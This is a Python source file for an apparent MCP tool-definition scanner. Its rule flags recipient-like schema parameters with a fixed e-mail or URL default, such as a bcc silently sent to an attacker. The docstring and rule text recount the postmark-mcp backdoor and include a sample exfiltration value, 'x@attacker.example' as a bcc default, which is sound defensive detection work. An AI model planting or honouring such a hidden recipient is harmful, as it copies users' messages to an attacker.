"""A tool definition that fixes where its data goes (prefix ``hijack.``): a recipient-like
parameter (``bcc``, ``cc``, ``to``, ``recipients``, ``forward_to``, ``webhook_url``,
``callback_url`` ...) whose input schema gives it a ``default``, ``const`` or ``enum`` that is
an e-mail address or a URL.

The postmark-mcp backdoor (Koi Security, 2025-09) quietly BCC'd every e-mail the server sent
to the attacker's address. Written into the schema instead of the code, the same backdoor is a
``"bcc": {"default": "x@attacker.example"}``: the model leaves an optional parameter alone, the
client fills in the default, and every message is copied out. Each string of a definition is
scanned on its own, so the address alone says nothing; this rule reads the parameter name and
its fixed value together (:func:`fixed_recipient`, called by :mod:`cordon.content._walk` on
tool definitions only). Structural: no pattern over text.
"""

from __future__ import annotations

import re
from functools import partial

from cordon.content._rule import Rule

_R = partial(Rule, category="tool_hijack")

#: the schema keywords that fix a value the client sends without the model choosing it
_FIXED = frozenset({"default", "const", "enum"})
#: schema members between a property and its fixed value (``items`` of an array of
#: recipients, a branch of ``anyOf``), and array indexes
_BETWEEN = frozenset({"items", "anyOf", "oneOf", "allOf"})

#: a word of a parameter name that names where data is sent, wherever it stands
_RECIPIENT_WORDS = frozenset(
    {
        "bcc",
        "cc",
        "recipient",
        "recipients",
        "webhook",
        "webhooks",
        "callback",
        "forward",
        "forwarding",
        "mailto",
        "notify",
    }
)
#: a "to" that names a recipient: the whole name, the last word after a verb of sending
#: ("send_to", "reply_to", "forward_to"), or the first before an address word ("to_email"); "path_to_file" and
#: "url_to_fetch" name no recipient
_SEND_VERBS = frozenset(
    {"send", "reply", "forward", "mail", "email", "copy", "deliver", "post", "report", "upload"}
)
_ADDRESS_WORDS = frozenset({"email", "emails", "address", "addresses", "addr", "url", "number"})

_SPLIT = re.compile(r"[_.\-\s]+|(?<=[a-z0-9])(?=[A-Z])|(?<=[A-Z])(?=[A-Z][a-z])")

#: an e-mail address or a URL with a scheme anywhere in the value ("Ops <x@host.tld>")
_DESTINATION = re.compile(
    r"[A-Za-z0-9._%+\-]+@[A-Za-z0-9\-]+(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}"
    r"|\b(?:https?|wss?|ftp)://[^\s/?#]+",
    re.ASCII,
)
#: a URL to this machine: a local OAuth redirect or dev webhook sends nothing off the host
_LOOPBACK = re.compile(
    r"\b(?:https?|wss?)://(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0)(?=[:/?#]|$)",
    re.ASCII | re.IGNORECASE,
)


def _unescape(seg: str) -> str:
    return seg.replace("~2", "#").replace("~1", "/").replace("~0", "~")


def recipient_name(name: str) -> bool:
    """Whether parameter ``name`` names where data is sent (see :data:`_RECIPIENT_WORDS`)."""
    words = [w.lower() for w in _SPLIT.split(name) if w]
    if not words or len(words) > 6:
        return False
    if any(w in _RECIPIENT_WORDS for w in words):
        return True
    if words == ["to"] or (len(words) > 1 and words[-1] == "to" and words[-2] in _SEND_VERBS):
        return True
    return words[0] == "to" and len(words) == 2 and words[1] in _ADDRESS_WORDS


def fixed_recipient(path: str, value: str) -> bool:
    """Whether ``value`` at JSON pointer ``path`` (as the walk writes it) is a schema's fixed
    ``default``/``const``/``enum`` of a recipient-like parameter and names an address or a
    URL off this machine."""
    segs = path.split("/")
    i = len(segs) - 1
    if i > 0 and segs[i].isdigit():  # an enum member, an item of an array default
        i -= 1
    if i < 2 or segs[i] not in _FIXED:
        return False
    j = i - 1
    while j > 0 and (segs[j] in _BETWEEN or segs[j].isdigit()):
        j -= 1
    if j < 1 or segs[j - 1] != "properties" or not recipient_name(_unescape(segs[j])):
        return False
    if len(value) > 2000:
        return True  # (a recipient's fixed value this long is no address a user typed: fail closed)
    return any(_LOOPBACK.match(value, m.start()) is None for m in _DESTINATION.finditer(value))


RULES: tuple[Rule, ...] = (
    _R(
        id="hijack.fixed_recipient",
        severity="high",
        summary="A tool's input schema gives a recipient-like parameter (bcc, cc, to, "
        "recipients, forward_to, webhook_url, callback_url) a fixed default, const or enum "
        'that is an e-mail address or a URL: \'"bcc": {"default": "x@attacker.example"}\'.',
        why="The postmark-mcp backdoor class: the model leaves an optional parameter alone, "
        "the client sends the schema's default, and every message or result is copied to the "
        "address the server chose. A server that sends for its user leaves the recipient to "
        "the user; a URL to this machine (a local callback) is not flagged.",
        fix="Hide the tool and review the server; a recipient is the caller's to choose.",
        source="Koi Security, 'First malicious MCP server in the wild: the postmark-mcp "
        "backdoor' (2025-09); JSON Schema 2020-12 validation, 'default', 'const', 'enum'",
    ),
)
